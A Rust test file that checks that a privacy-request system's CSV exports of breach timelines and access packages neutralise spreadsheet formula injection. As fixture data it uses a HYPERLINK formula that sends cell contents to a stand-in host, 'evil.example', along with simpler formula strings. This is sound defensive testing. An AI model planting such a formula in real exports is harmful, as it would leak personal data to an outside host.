//! CSV exports against spreadsheet formula injection (OWASP): a cell starting with
//! `=`, `+`, `-`, `@`, tab or CR gets a leading `'`, in the breach timeline and the
//! access package alike (one CSV writer).

use crate::rights::{desk, links, press_download};
use serde_json::json;
use time::format_description::well_known::Rfc3339;

/// The cells of an RFC 4180 document (quoted cells, `""` inside them).
fn cells(csv: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let (mut row, mut cell) = (Vec::new(), String::new());
    let mut chars = csv.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    rows
}

fn runs_as_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[test]
fn a_breach_timeline_with_formula_text_exports_no_formula() {
    let d = desk();
    #[allow(clippy::disallowed_methods)]
    let aware = (time::OffsetDateTime::now_utc() - time::Duration::hours(1))
        .format(&Rfc3339)
        .unwrap();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    let r = d.call(
        "POST",
        "/v1/breaches",
        Some("dpo"),
        Some(json!({
            "aware_at": aware,
            "nature": ["confidentiality"],
            "description": formula,
            "categories": ["user.contact.email"],
            "approx_people": 1,
            "approx_records": 1,
            "consequences": formula,
            "measures": formula,
            "subject_ids": [],
        })),
    );
    assert_eq!(r.status, 201, "{}", r.body);
    let id = r.json()["id"].as_str().unwrap().to_owned();
    let r = d.call(
        "POST",
        &format!("/v1/breaches/{id}/people"),
        Some("dpo"),
        Some(json!({"inform": false, "reason": "unintelligible", "explanation": formula})),
    );
    assert_eq!(r.status, 200, "{}", r.body);
    let r = d.call(
        "GET",
        &format!("/v1/breaches/{id}/timeline?format=csv"),
        Some("dpo"),
        None,
    );
    assert_eq!(r.status, 200, "{}", r.body);
    let rows = cells(&r.body);
    assert_eq!(rows.len(), 3, "header, recorded, people: {}", r.body);
    assert!(
        rows.iter().flatten().any(|c| c.contains("=HYPERLINK")),
        "the text is exported: {}",
        r.body
    );
    for cell in rows.iter().flatten() {
        assert!(!runs_as_formula(cell), "{cell:?} in {}", r.body);
    }
}

#[test]
fn an_access_package_with_formula_values_exports_them_defused() {
    let d = desk();
    d.create(
        "customer",
        json!({"user.contact.email": "formula@example.org", "user.name.first": "=1+2", "user.name.last": "@SUM(A1)"}),
    );
    let id = d.submit_verified(json!({"kind": "access", "email": "formula@example.org"}));
    d.complete(&id, "dpo");
    let letter = d
        .mail
        .wait_for("formula@example.org", |m| m.text.contains("/download/"));
    let urls = links(&letter.text);
    let csv_url = urls
        .iter()
        .find(|u| letter.text.contains(&format!("CSV: {u}")))
        .unwrap();
    let csv = press_download(&d.install.reach(csv_url));
    assert_eq!(csv.status, 200, "{}", csv.body);
    let rows = cells(&csv.body);
    let value = |name: &str| {
        rows.iter()
            .find(|r| r.first().map(String::as_str) == Some("data") && r[2] == name)
            .map(|r| r[3].clone())
            .unwrap_or_else(|| panic!("no {name} in {}", csv.body))
    };
    assert_eq!(value("user.name.first"), "'=1+2");
    assert_eq!(value("user.name.last"), "'@SUM(A1)");
    for cell in rows.iter().flatten() {
        assert!(!runs_as_formula(cell), "{cell:?} in {}", csv.body);
    }
}
